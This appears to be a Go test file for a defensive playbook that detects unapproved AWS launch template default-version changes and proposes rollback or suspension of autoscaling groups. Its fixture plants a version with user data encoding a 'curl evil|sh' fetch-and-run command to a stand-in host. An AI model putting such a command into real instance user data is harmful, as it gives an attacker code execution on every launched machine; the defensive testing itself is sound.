package launch_test

import (
	"encoding/json"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/autoscaling"
	scaling "github.com/aws/aws-sdk-go-v2/service/autoscaling/types"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	"github.com/aws/aws-sdk-go-v2/service/ec2/types"

	"github.com/ripostehq/riposte/event"
	"github.com/ripostehq/riposte/playbook"
	"github.com/ripostehq/riposte/playbooks/launch"
)

const evil = "Y3VybCBldmlsfHNo" // curl evil|sh

// plant makes a version of the golden image with the attacker's own user data.
func (a attacker) plant(c *ec2.Client) {
	a.t.Helper()
	a.must(c.CreateLaunchTemplateVersion(a.t.Context(), &ec2.CreateLaunchTemplateVersionInput{
		LaunchTemplateName: aws.String("sound"),
		LaunchTemplateData: &types.RequestLaunchTemplateData{ImageId: aws.String("ami-0bbbbbbbbbbbbbbbb"), UserData: aws.String(evil)},
	}))
}

// someone is another hand than the operator's.
func (a attacker) someone() *ec2.Client {
	return ec2.NewFromConfig(a.w.Config(ireland, aws.Credentials{AccessKeyID: "AKIABUILDER000000001", SecretAccessKey: "builder"}))
}

func (a attacker) wait(d time.Duration) {
	a.t.Helper()
	a.must(nil, a.w.AdvanceTo(a.w.Now().Add(d)))
}

// following is a group that launches by the default of a template.
func following(group, template string) *autoscaling.UpdateAutoScalingGroupInput {
	return &autoscaling.UpdateAutoScalingGroupInput{
		AutoScalingGroupName: &group, LaunchTemplate: &scaling.LaunchTemplateSpecification{LaunchTemplateName: &template},
	}
}

// template is a template's id.
func (a attacker) template(name string) string {
	a.t.Helper()
	out, err := a.ec2.DescribeLaunchTemplates(a.t.Context(), &ec2.DescribeLaunchTemplatesInput{LaunchTemplateNames: []string{name}})
	a.must(out, err)
	return *out.LaunchTemplates[0].LaunchTemplateId
}

// moved makes a version the default, and is what comes of its record: the version to go back to, and the steps.
func (a attacker) moved(version string) (back int64, kinds []string) {
	a.t.Helper()
	for _, d := range a.w.Deliveries() {
		a.must(nil, a.w.Ack(d.ID))
	}
	a.must(a.ec2.ModifyLaunchTemplate(a.t.Context(), &ec2.ModifyLaunchTemplateInput{LaunchTemplateName: aws.String("sound"), DefaultVersion: aws.String(version)}))
	a.wait(6 * time.Second)
	for _, d := range a.w.Deliveries() {
		contents, err := event.Unwrap(d.Body)
		a.must(nil, err)
		e, err := event.Decode(contents[0].Record)
		a.must(nil, err)
		if e.Name != "ModifyLaunchTemplate" {
			continue
		}
		book, err := launch.UnapprovedTemplate().Default()
		a.must(nil, err)
		leads, err := book.Leads(e)
		a.must(nil, err)
		found, err := book.Check(a.t.Context(), playbook.In{AWS: as(a.w, "AKIAOPERATOR00000001", "operator").Reads(), Now: a.w.Now()}, "c_1", leads[0])
		if err != nil || len(found) != 1 {
			a.t.Fatalf("%d proposals, %v", len(found), err)
		}
		var facts struct{ Back int64 }
		a.must(nil, json.Unmarshal(found[0].Lead.Facts, &facts))
		return facts.Back, found[0].Plan.Kinds()
	}
	a.t.Fatal("no record")
	return 0, nil
}

// An approved image may come with the attacker's own user data: what leads back is what was there before, by another hand.
func TestTheWayBackIsNotPlanted(t *testing.T) {
	for _, c := range []struct {
		name  string
		other bool          // somebody else than who moves the default makes the versions
		ago   time.Duration // between the good one and the bad one
		back  int64
	}{
		{"by who acts", false, 0, 1},
		{"by who acts, long ago", false, 72 * time.Hour, 1},
		{"by an accomplice, who makes the bad version too", true, 0, 1},
		{"a deployment of last week", true, 7 * 24 * time.Hour, 2},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := attack(t)
			maker := a.ec2
			if c.other {
				maker = a.someone()
			}
			a.plant(maker)
			a.wait(c.ago)
			a.must(maker.CreateLaunchTemplateVersion(t.Context(), &ec2.CreateLaunchTemplateVersionInput{
				LaunchTemplateName: aws.String("sound"), LaunchTemplateData: &types.RequestLaunchTemplateData{ImageId: aws.String("ami-0aaaaaaaaaaaaaaaa")},
			}))
			a.wait(time.Minute)
			if back, kinds := a.moved("3"); back != c.back || kinds[0] != "ec2.default-version" {
				t.Errorf("back to %d, want %d: %v", back, c.back, kinds)
			}
		})
	}
}

// Where nothing but the attacker's own versions are left, the groups are stopped.
func TestWhereAllVersionsArePlantedTheGroupsAreStopped(t *testing.T) {
	a := attack(t)
	a.must(a.ec2.CreateLaunchTemplate(t.Context(), &ec2.CreateLaunchTemplateInput{
		LaunchTemplateName: aws.String("fresh"), LaunchTemplateData: &types.RequestLaunchTemplateData{ImageId: aws.String("ami-0bbbbbbbbbbbbbbbb")},
	}))
	a.must(a.scaling.UpdateAutoScalingGroup(t.Context(), following("steady", "fresh")))
	a.version("fresh", "ami-0aaaaaaaaaaaaaaaa")
	a.wait(time.Minute)
	a.must(a.ec2.ModifyLaunchTemplate(t.Context(), &ec2.ModifyLaunchTemplateInput{LaunchTemplateName: aws.String("fresh"), DefaultVersion: aws.String("2")}))
	plans := a.seen(6 * time.Second)
	expect(t, plans[len(plans)-1:], "ModifyLaunchTemplate launch-template "+a.template("fresh")+": launch template fresh version 2 "+public+"\n  autoscaling.suspend steady")
}
